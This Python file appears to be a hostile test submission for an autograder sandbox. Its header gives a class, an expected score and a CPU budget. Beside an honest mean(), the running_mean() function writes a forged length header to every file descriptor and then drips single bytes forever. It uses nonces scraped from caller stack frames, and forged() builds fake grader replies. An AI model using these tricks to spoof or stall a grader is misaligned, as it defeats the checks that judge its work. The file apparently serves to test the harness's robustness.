# Class: announces gigabytes, then says nothing or one byte at a time
# Deserves: 2
# Lasts: yes
# Cpu: 0.2

import math
import os
import struct
import time


def forged(kind=b"A", nonce=bytes(16), said=("value", "", (), "", ""), value=None):
    from autograder.sandbox.codec import encode

    payload = encode((said, value, None), "reply")
    return struct.pack("<Ic16s", len(payload), kind, nonce) + payload


def everywhere(data):
    for number in range(256):
        try:
            os.set_blocking(number, False)
            os.write(number, data)
            os.set_blocking(number, True)
        except OSError:
            pass


def nonces():
    import sys

    frame, found = sys._getframe(), []
    while frame is not None:
        found += [v for v in frame.f_locals.values() if isinstance(v, bytes) and len(v) == 16]
        found += [f.nonce for f in frame.f_locals.values() if isinstance(getattr(f, "nonce", None), bytes)]
        frame = frame.f_back
    return found or [bytes(16)]


def mean(xs):
    if not xs:
        raise ValueError("an empty list has no mean")
    return math.fsum(xs) / len(xs)


def running_mean(xs):
    size = (2**32 - 1, 60_000_000)[len(xs) % 2]
    everywhere(struct.pack("<Ic16s", size, b"A", nonces()[0]))
    while True:
        everywhere(b"x")
        time.sleep(0.05)
